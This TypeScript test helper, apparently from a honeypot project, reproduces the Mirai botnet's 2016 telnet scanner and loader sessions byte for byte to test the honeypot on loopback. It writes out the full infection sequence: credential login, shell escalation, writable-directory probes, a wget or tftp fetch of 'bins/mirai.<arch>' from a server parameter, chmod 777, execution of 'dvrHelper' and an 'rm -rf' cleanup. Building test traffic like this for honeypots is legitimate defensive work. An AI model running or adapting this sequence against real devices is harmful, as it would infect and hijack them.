import { BotConnection } from './bot-connection.js'

/*
 * Mirai's telnet dialogue as the 2016 source writes it (DOMAIN.md §1.4): the scanner's state machine
 * (mirai/bot/scanner.c) and the loader's (loader/src/server.c, connection.c), reproduced byte for byte
 * so the honeypot can be tested against what the bot really sends. Test code: it only ever talks to
 * the honeypot under test on a loopback address.
 */

const IAC = 0xff
const NAWS_80X24 = Buffer.from([0xff, 0xfb, 0x1f, 0xff, 0xfa, 0x1f, 0x00, 0x50, 0x00, 0x18, 0xff, 0xf0])

/** scanner.c consume_iac: only commands at the start of the buffer; DO NAWS → 80x24, DO → WONT, WILL → DO. */
function consumeIac(conn: BotConnection): number {
  const buf = conn.buffer
  let i = 0
  while (i + 2 < buf.length && buf[i] === IAC) {
    if (buf[i + 1] === IAC) {
      i += 2
      continue
    }
    if (buf[i + 1] === 0xfd && buf[i + 2] === 31) conn.send(NAWS_80X24)
    else {
      const reply = Buffer.from(buf.subarray(i, i + 3))
      for (let k = 0; k < 3; k++) {
        if (reply[k] === 0xfd) reply[k] = 0xfc
        else if (reply[k] === 0xfb) reply[k] = 0xfd
      }
      conn.send(reply)
    }
    i += 3
  }
  return i
}

/** The last byte that is not space, tab, CR, LF or NUL, and the length up to it. */
function lastPrintable(buf: Buffer): { char: string; end: number } | undefined {
  for (let i = buf.length - 1; i >= 0; i--) {
    const b = buf[i] as number
    if (b !== 0x20 && b !== 0x09 && b !== 0x0d && b !== 0x0a && b !== 0)
      return { char: String.fromCharCode(b), end: i + 1 }
  }
  return undefined
}

const promptAt = (chars: string, words: string[]) => (buf: Buffer) => {
  const last = lastPrintable(buf)
  if (last && chars.includes(last.char)) return last.end
  for (const w of words) {
    const at = buf.indexOf(w, 0, 'latin1')
    if (at >= 0) return at + w.length
  }
  return 0
}
const userPrompt = promptAt(':>$#%', ['ogin', 'enter'])
const passPrompt = promptAt(':>$#', ['assword'])
const anyPrompt = promptAt(':>$#%', [])

export type MiraiOutcome = 'found' | 'login-failed' | 'timeout'

/**
 * One scanner connection with one credential: negotiation, user name, password, enable, system,
 * shell, sh, then /bin/busybox MIRAI. 'found' = the reply held "MIRAI: applet not found".
 */
export async function miraiScannerSession(
  host: string,
  port: number,
  cred: { username: string; password: string },
  localAddress?: string,
): Promise<MiraiOutcome> {
  const conn = await BotConnection.connect(host, port, localAddress)
  let seen = ''
  conn.socket.on('data', (d: Buffer) => {
    seen += d.toString('latin1')
  })
  // a close is a failed try for the bot, which reconnects with the next pair
  const lost = (): MiraiOutcome => (seen.includes('ncorrect') ? 'login-failed' : 'timeout')
  try {
    if ((await conn.step(() => consumeIac(conn))) < 0) return 'timeout'
    if ((await conn.step(userPrompt)) < 0) return 'timeout'
    conn.send(`${cred.username}\r\n`)
    if ((await conn.step(passPrompt)) < 0) return 'timeout'
    conn.send(`${cred.password}\r\n`)
    for (const word of ['enable', 'system', 'shell', 'sh']) {
      if ((await conn.step(anyPrompt, 30_000)) < 0) return lost()
      conn.send(`${word}\r\n`)
    }
    if ((await conn.step(anyPrompt, 30_000)) < 0) return lost()
    conn.send('/bin/busybox MIRAI\r\n')
    let outcome: MiraiOutcome = lost()
    await conn.step((buf) => {
      const text = buf.toString('latin1')
      if (text.includes('ncorrect')) outcome = 'login-failed'
      else if (text.includes('MIRAI: applet not found')) outcome = 'found'
      else return 0
      return buf.length
    }, 30_000)
    return outcome
  } finally {
    conn.close()
  }
}

const TOKEN_QUERY = '/bin/busybox ECCHI'
const TOKEN_RESPONSE = 'ECCHI: applet not found'

/** What the loader learnt and asked for: the writable directory, the ELF machine, the URL it sent. */
export interface LoaderOutcome {
  stage: 'done' | 'timeout'
  writableDir?: string
  elfMachine?: number
  arch?: string
  uploadMethod?: 'wget' | 'tftp' | 'echo'
}

const untilToken = (buf: Buffer) => {
  const at = buf.indexOf(TOKEN_RESPONSE, 0, 'latin1')
  return at < 0 ? 0 : at + TOKEN_RESPONSE.length
}

/** e_machine → the loader's binary suffix (loader/src/connection.c connection_consume_arch). */
const ARCH_BY_MACHINE: Record<number, string> = {
  2: 'spc',
  3: 'x86',
  4: 'm68k',
  8: 'mips',
  20: 'ppc',
  40: 'arm',
  42: 'sh4',
}

/**
 * The loader's session: login, enable/shell/sh, the ECCHI token, ps, /proc/mounts, the .nippon write
 * test on each rw mount, dvrHelper from /bin/echo, the ELF header of /bin/echo, wget/tftp probes, the
 * wget of bins/mirai.<arch> and the run (`./dvrHelper`, then IHCCE). `server` is the address the loader
 * names in its URL; it is never contacted by anyone.
 */
export async function miraiLoaderSession(
  host: string,
  port: number,
  cred: { username: string; password: string },
  server: string,
  localAddress?: string,
): Promise<LoaderOutcome> {
  const conn = await BotConnection.connect(host, port, localAddress)
  const out: LoaderOutcome = { stage: 'timeout' }
  const step = (f: (buf: Buffer) => number) => conn.step(f, 10_000)
  /** Waits for the token and returns everything up to it (undefined on timeout or close). */
  const replyToToken = async (): Promise<Buffer | undefined> => {
    let got: Buffer | undefined
    const n = await step((b) => {
      const at = untilToken(b)
      if (at) got = Buffer.from(b.subarray(0, at))
      return at
    })
    return n < 0 ? undefined : got
  }
  try {
    if ((await step(() => consumeIac(conn))) < 0) return out
    if ((await step(userPrompt)) < 0) return out
    conn.send(`${cred.username}\r\n`)
    if ((await step(passPrompt)) < 0) return out
    conn.send(`${cred.password}\r\n`)
    if ((await step(anyPrompt)) < 0) return out
    conn.send('enable\r\n')
    conn.send('shell\r\n')
    conn.send('sh\r\n')
    conn.send(`${TOKEN_QUERY}\r\n`)
    if ((await step(untilToken)) < 0) return out
    conn.send(`/bin/busybox ps; ${TOKEN_QUERY}\r\n`)
    if ((await step(untilToken)) < 0) return out
    conn.send(`/bin/busybox cat /proc/mounts; ${TOKEN_QUERY}\r\n`)
    const mountsReply = await replyToToken()
    if (!mountsReply) return out
    const mounts = mountsReply.toString('latin1')
    const rwDirs = mounts
      .split(/\r?\n/)
      .map((l) => l.split(' '))
      .filter((f) => f.length >= 4 && (f[3] as string).split(',').includes('rw'))
      .map((f) => f[1] as string)
    for (const dir of rwDirs) {
      conn.send(
        `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > ${dir}/.nippon; /bin/busybox cat ${dir}/.nippon; /bin/busybox rm ${dir}/.nippon\r\n`,
      )
    }
    conn.send(
      `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /.nippon; /bin/busybox cat /.nippon; /bin/busybox rm /.nippon\r\n`,
    )
    conn.send(`${TOKEN_QUERY}\r\n`)
    const writtenReply = await replyToToken()
    if (!writtenReply) return out
    const written = writtenReply.toString('latin1')
    // the first directory whose write test read back "kami" (connection_consume_written_dirs)
    const pieces = written.split('kami')
    if (pieces.length > 1)
      out.writableDir =
        rwDirs.find((d) => d !== '/' && !d.startsWith('/proc') && !d.startsWith('/sys')) ?? '/'
    const dir = out.writableDir ?? '/'
    conn.send(`cd ${dir}/\r\n`)
    conn.send(
      `/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; ${TOKEN_QUERY}\r\n`,
    )
    if ((await step(untilToken)) < 0) return out
    conn.send(`/bin/busybox cat /bin/echo\r\n${TOKEN_QUERY}\r\n`)
    const elfReply = await replyToToken()
    if (!elfReply) return out
    const elf = elfReply
    const at = elf.indexOf('\x7fELF', 0, 'latin1')
    if (at >= 0 && elf.length > at + 20) {
      out.elfMachine = elf[at + 5] === 2 ? elf.readUInt16BE(at + 18) : elf.readUInt16LE(at + 18)
      const base = ARCH_BY_MACHINE[out.elfMachine] ?? 'arm'
      out.arch = base === 'mips' && elf[at + 5] === 1 ? 'mpsl' : base
    }
    if (out.arch === 'arm') {
      conn.send(`/bin/busybox cat /proc/cpuinfo; ${TOKEN_QUERY}\r\n`)
      const cpuReply = await replyToToken()
      if (!cpuReply) return out
      const cpu = cpuReply.toString('latin1')
      if (/ARMv7|ARMv6/.test(cpu)) out.arch = 'arm7'
    }
    conn.send(`/bin/busybox wget; /bin/busybox tftp; ${TOKEN_QUERY}\r\n`)
    const methodsReply = await replyToToken()
    if (!methodsReply) return out
    const methods = methodsReply.toString('latin1')
    out.uploadMethod = !methods.includes('wget: applet not found')
      ? 'wget'
      : !methods.includes('tftp: applet not found')
        ? 'tftp'
        : 'echo'
    if (out.uploadMethod === 'wget')
      conn.send(
        `/bin/busybox wget http://${server}/bins/mirai.${out.arch} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ${TOKEN_QUERY}\r\n`,
      )
    else
      conn.send(
        `/bin/busybox tftp -g -l dvrHelper -r mirai.${out.arch} ${server.split(':')[0]}; /bin/busybox chmod 777 dvrHelper; ${TOKEN_QUERY}\r\n`,
      )
    if ((await step(untilToken)) < 0) return out
    conn.send(`./dvrHelper telnet.${out.arch}; /bin/busybox IHCCE\r\n`)
    if (
      (await step((b) => {
        const t = b.toString('latin1')
        return t.includes('IHCCE: applet not found') || t.includes('listening tun0') ? b.length : 0
      })) < 0
    )
      return out
    conn.send('rm -rf /tmp/dvrHelper; > dvrHelper; /bin/busybox ECCHI\r\n')
    if ((await step(untilToken)) < 0) return out
    out.stage = 'done'
    return out
  } finally {
    conn.close()
  }
}
